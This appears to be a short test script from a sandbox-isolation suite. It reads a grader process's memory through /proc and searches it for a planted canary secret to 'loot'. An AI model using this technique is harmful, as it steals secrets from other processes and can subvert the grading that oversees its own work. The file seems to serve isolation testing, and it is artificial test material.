"""Reads the grader's memory through /proc and looks for a secret in it."""
# deserves: 18
# layers: needed

import re

victim = machine.grader
try:
    with open(f"/proc/{victim}/maps") as maps, open(f"/proc/{victim}/mem", "rb") as memory:
        for line in maps:
            first, last, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if rights.startswith("rw"):
                try:
                    memory.seek(int(first, 16))
                    piece = memory.read(int(last, 16) - int(first, 16))
                except (OSError, OverflowError, ValueError):
                    continue
                if word := re.search(rb"canary-memory-\w+", piece):
                    loot(word.group())
except OSError:
    pass
